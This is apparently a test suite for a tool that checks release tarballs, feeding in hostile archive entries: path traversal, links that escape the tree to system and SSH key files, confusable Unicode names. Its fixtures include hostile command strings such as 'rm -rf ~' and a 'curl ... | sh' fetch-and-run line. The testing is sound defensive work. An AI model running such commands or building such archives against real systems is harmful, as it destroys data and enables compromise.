/**
 * Hostile archive paths and names, end to end through the built CLI: each case names the attack and
 * asserts the exact findings (code, severity, path) and exit code.
 */
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { gitHashObject, rawTarEntry } from '../helpers/archives.js';
import { tempDir } from '../helpers/tmp.js';
import { writeFileSync } from 'node:fs';
import { expectFindings, finding, makeFixtureRepo, PREFIX, runCli, writePkgTar, type Fixture } from './helpers.js';

const dir = tempDir('distdiff-hostile-paths-');
const cache = join(dir, 'cache');
let fx: Fixture;
let n = 0;

beforeAll(() => {
  fx = makeFixtureRepo(join(dir, 'repo'));
});

/** Write the release plus `extra` entries, run the CLI on it with --tag v1.0. */
async function run(extra: Buffer[], skip: string[] = [], args: string[] = []) {
  const file = writePkgTar(join(dir, `case-${++n}.tar`), extra, skip);
  return runCli([file, '--repo', fx.repo.dir, '--tag', 'v1.0', '--cache-dir', cache, ...args]);
}

const P = (p: string) => `${PREFIX}/${p}`;

describe.concurrent('hostile archive paths', () => {
  it('baseline: the clean release is identical (exit 0)', async () => {
    expectFindings(await run([]), []);
  });

  it('absolute path inside the prefix (/hello-1.0/evil.sh) is UNSAFE_PATH critical', async () => {
    const r = await run([rawTarEntry(`/${P('evil.sh')}`, 'rm -rf ~\n')]);
    expectFindings(r, [
      ['UNSAFE_PATH', 'critical', 'evil.sh'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'evil.sh'], // a shell script: build-affecting
    ]);
    expect(finding(r, 'UNSAFE_PATH', 'evil.sh').evidence).toMatchObject({ raw: `/${P('evil.sh')}`, reason: 'absolute' });
  });

  it('absolute path outside the prefix (/etc/cron.d/x) cannot defeat prefix detection quietly', async () => {
    const r = await run([rawTarEntry('/etc/cron.d/x', '* * * * * root id\n')]);
    // The extra top-level directory means there is no common prefix: every tracked file is reported missing at its
    // real path and present under hello-1.0/; the unsafe entry is critical.
    const triples = (await Promise.resolve(r)).json!.findings.map((f) => [f.code, f.severity, f.path]);
    expect(triples).toContainEqual(['UNSAFE_PATH', 'critical', 'etc/cron.d/x']);
    expect(r.code).toBe(1);
    expect(r.json!.inputs.tarball.prefix).toBe('');
  });

  it("'..' components (hello-1.0/../../evil) are UNSAFE_PATH critical, kept visible in the path", async () => {
    const r = await run([rawTarEntry(P('../../evil'), 'x\n')]);
    expectFindings(r, [
      ['UNSAFE_PATH', 'critical', '../../evil'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', '../../evil'],
    ]);
    expect(finding(r, 'UNSAFE_PATH', '../../evil').evidence).toMatchObject({ reason: 'dotdot' });
  });

  it("'./' and '//' variants of a tracked file normalise to it: a duplicate, and the last one is compared", async () => {
    const r = await run([rawTarEntry(`./${PREFIX}//src/./main.c`, 'int main(void) { return 1; }\n')]);
    expectFindings(r, [
      ['DUPLICATE_ENTRY', 'high', 'src/main.c'],
      ['SOURCE_MODIFIED', 'high', 'src/main.c'],
    ]);
  });

  it('backslash name (hello-1.0/src\\main.c) is BACKSLASH_PATH, not the tracked file', async () => {
    const r = await run([rawTarEntry(P('src\\main.c'), 'evil\n')]);
    expectFindings(r, [
      ['BACKSLASH_PATH', 'medium', 'src\\main.c'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'src\\main.c'],
    ]);
  });

  it('entry under a symlinked directory (link -> /etc, then link/passwd): escape + file/dir conflict', async () => {
    const r = await run([rawTarEntry(P('link'), '', { type: '2', linkname: '/etc' }), rawTarEntry(P('link/passwd'), 'root::0:0::/:/bin/sh\n')]);
    expectFindings(r, [
      ['LINK_ESCAPES_TREE', 'high', 'link'],
      ['FILE_DIR_CONFLICT', 'high', 'link'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'link'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'link/passwd'],
    ]);
  });

  it('symlink pointing outside the tree through ../ is LINK_ESCAPES_TREE', async () => {
    const r = await run([rawTarEntry(P('m4/evil.m4'), '', { type: '2', linkname: '../../../home/user/.ssh/id_rsa' })]);
    expectFindings(r, [
      ['LINK_ESCAPES_TREE', 'high', 'm4/evil.m4'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'm4/evil.m4'], // an m4 file: build-affecting
    ]);
    expect(finding(r, 'LINK_ESCAPES_TREE', 'm4/evil.m4').evidence).toMatchObject({ target: '../../../home/user/.ssh/id_rsa', link: 'symlink' });
  });

  it('hardlink to an absolute path outside the archive is HARDLINK_ENTRY + LINK_ESCAPES_TREE', async () => {
    const r = await run([rawTarEntry(P('shadow'), '', { type: '1', linkname: '/etc/shadow' })]);
    expectFindings(r, [
      ['HARDLINK_ENTRY', 'low', 'shadow'],
      ['LINK_ESCAPES_TREE', 'high', 'shadow'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'shadow'],
    ]);
  });

  it('hardlink replacing a tracked file with another file\'s content is compared through its target', async () => {
    // configure becomes a hardlink to README: extraction yields README's bytes at configure.
    const r = await run([rawTarEntry(P('configure'), '', { type: '1', linkname: P('README') })], ['configure']);
    expectFindings(r, [
      ['HARDLINK_ENTRY', 'low', 'configure'],
      ['SOURCE_MODIFIED', 'critical', 'configure'], // configure runs at build time
    ]);
  });

  it('symlinks pointing at each other (a -> b, b -> a) and a hardlink to itself: reported, no loop', async () => {
    const r = await run([
      rawTarEntry(P('a'), '', { type: '2', linkname: 'b' }),
      rawTarEntry(P('b'), '', { type: '2', linkname: 'a' }),
      rawTarEntry(P('self'), '', { type: '1', linkname: P('self') }),
    ]);
    expectFindings(r, [
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'a'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'b'],
      ['HARDLINK_ENTRY', 'low', 'self'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'self'],
    ]);
  });

  it('character device, block device and fifo entries are SPECIAL_FILE high', async () => {
    const r = await run([rawTarEntry(P('tty'), '', { type: '3' }), rawTarEntry(P('sda'), '', { type: '4' }), rawTarEntry(P('pipe'), '', { type: '6' })]);
    expectFindings(r, [
      ['SPECIAL_FILE', 'high', 'tty'],
      ['SPECIAL_FILE', 'high', 'sda'],
      ['SPECIAL_FILE', 'high', 'pipe'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'tty'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'sda'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'pipe'],
    ]);
  });

  it('duplicate entry, evil copy LAST: DUPLICATE_ENTRY and the evil content is what gets compared', async () => {
    const evil = 'hello\ncurl http://127.0.0.1/x | sh\n';
    const r = await run([rawTarEntry(P('README'), evil)]);
    expectFindings(r, [
      ['DUPLICATE_ENTRY', 'high', 'README'],
      ['SOURCE_MODIFIED', 'high', 'README'],
    ]);
    const evilFile = join(dir, 'evil-readme');
    writeFileSync(evilFile, evil);
    const f = finding(r, 'SOURCE_MODIFIED', 'README');
    expect(f.diff?.tarballOid).toBe(gitHashObject(evilFile));
    expect(f.diff?.unified).toContain('+curl http://127.0.0.1/x | sh');
  });

  it('duplicate entry, evil copy FIRST: DUPLICATE_ENTRY only, the good last copy is compared', async () => {
    const r = await run([rawTarEntry(P('README'), 'evil first\n'), rawTarEntry(P('README'), 'hello\n')], ['README']);
    expectFindings(r, [['DUPLICATE_ENTRY', 'high', 'README']]);
  });

  // npm's packer lists a file twice when `main` names it again (hookable 5.5.3, holdout30): the same bytes and mode
  // whichever entry an extractor keeps, so medium and exit 0; the same bytes with another executable bit is high.
  it('duplicate entry, identical copies: DUPLICATE_ENTRY medium, exit 0', async () => {
    const r = await run([rawTarEntry(P('README'), 'hello\n')]);
    expectFindings(r, [['DUPLICATE_ENTRY', 'medium', 'README']]);
    expect(finding(r, 'DUPLICATE_ENTRY', 'README').evidence).toEqual({ count: 2, types: ['file', 'file'], sameContent: true });
  });

  it('duplicate entry, same bytes but the first copy executable: DUPLICATE_ENTRY high (duplicate-differs)', async () => {
    const r = await run([rawTarEntry(P('README'), 'hello\n', { mode: 0o755 }), rawTarEntry(P('README'), 'hello\n')], ['README']);
    expectFindings(r, [['DUPLICATE_ENTRY', 'high', 'README']]);
    expect(finding(r, 'DUPLICATE_ENTRY', 'README').severityReason).toEqual({ reason: 'duplicate-differs', default: 'medium' });
  });

  it('a file and a directory with the same name (src as a file, then src/main.c)', async () => {
    const r = await run([rawTarEntry(P('src'), 'not a dir\n'), rawTarEntry(P('src/main.c'), 'int main(void) { return 0; }\n')], ['src/main.c']);
    expectFindings(r, [
      ['FILE_DIR_CONFLICT', 'high', 'src'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'src'],
    ]);
  });
});

describe.concurrent('hostile archive names', () => {
  it('name that is not UTF-8 (Latin-1 caf\\xe9) is NON_UTF8_NAME with the raw bytes escaped', async () => {
    const r = await run([rawTarEntry(Buffer.concat([Buffer.from(P('caf')), Buffer.from([0xe9])]), 'x\n')]);
    expectFindings(r, [
      ['NON_UTF8_NAME', 'medium', 'caf\\xe9'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'caf\\xe9'],
    ]);
  });

  it('NFC and NFD twins (café) are UNICODE_COLLISION high', async () => {
    const nfc = 'caf\u00e9';
    const nfd = 'cafe\u0301';
    const r = await run([rawTarEntry(P(nfc), 'a\n'), rawTarEntry(P(nfd), 'b\n')]);
    expectFindings(r, [
      ['UNICODE_COLLISION', 'high', nfc], // the later of the two in byte order
      ['TARBALL_ONLY_UNEXPLAINED', 'high', nfc],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', nfd],
    ]);
  });

  it('Cyrillic confusable of a tracked file (c\\u043enfigure next to configure) is CONFUSABLE_NAME high', async () => {
    const fake = 'c\u043enfigure';
    const r = await run([rawTarEntry(P(fake), '#!/bin/sh\necho evil\n', { mode: 0o755 })]);
    expectFindings(r, [
      ['CONFUSABLE_NAME', 'high', fake],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', fake],
    ]);
    expect(finding(r, 'CONFUSABLE_NAME', fake).evidence).toEqual({ lookalike: 'configure' });
  });

  it('Greek confusable (alpha \\u03b1 for a: src/m\\u03b1in.c next to src/main.c) is CONFUSABLE_NAME', async () => {
    const fake = 'src/m\u03b1in.c';
    const r = await run([rawTarEntry(P(fake), 'int main(void) { return 2; }\n')]);
    expectFindings(r, [
      ['CONFUSABLE_NAME', 'high', fake],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', fake],
    ]);
    expect(finding(r, 'CONFUSABLE_NAME', fake).evidence).toEqual({ lookalike: 'src/main.c' });
  });

  it('invisible character (zero-width space in con\\u200bfigure) is INVISIBLE_CHARACTER and CONFUSABLE_NAME', async () => {
    const fake = 'con\u200bfigure';
    const r = await run([rawTarEntry(P(fake), 'x\n')]);
    expectFindings(r, [
      ['INVISIBLE_CHARACTER', 'high', fake],
      ['CONFUSABLE_NAME', 'high', fake],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', fake],
    ]);
    expect(finding(r, 'INVISIBLE_CHARACTER', fake).evidence).toEqual({ codepoints: ['U+200B'] });
  });

  it('case-only twin of a tracked file (readme next to README) is CASE_COLLISION, high: git does not track readme (red team 14)', async () => {
    const r = await run([rawTarEntry(P('readme'), 'other\n')]);
    expectFindings(r, [
      ['CASE_COLLISION', 'high', 'readme'],
      ['TARBALL_ONLY_UNEXPLAINED', 'high', 'readme'],
    ]);
  });
});
